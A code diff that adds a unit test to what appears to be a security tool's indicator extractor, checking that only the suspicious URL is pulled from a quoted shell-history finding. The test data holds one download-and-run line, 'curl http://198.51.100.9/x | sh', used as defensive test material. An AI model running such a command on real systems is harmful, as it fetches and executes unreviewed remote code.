@@ -148,6 +148,18 @@ describe("indicators", () => {
         ]);
     });
 
+    it("are not what stands around the matches of a history", () => {
+        const history = finding({
+            check: "shell-history",
+            severity: "high",
+            title: "Command history: downloads and runs in one line",
+            path: "/root/.bash_history",
+            evidence: "  line 1: ssh backup.example.org\n> line 2: curl http://198.51.100.9/x | sh\n  line 3: ping 198.51.100.77",
+        });
+        const values = indicatorsOf([history], { facts: null }, own).map(({ value }) => value);
+        expect(values).to.include("http://198.51.100.9/x").and.not.include("backup.example.org").and.not.include("198.51.100.77");
+    });
+
     it("stay bounded and quick on what a hostile disk repeats", () => {
         const many = Array.from({ length: 5000 }, (_, index) =>
             finding({
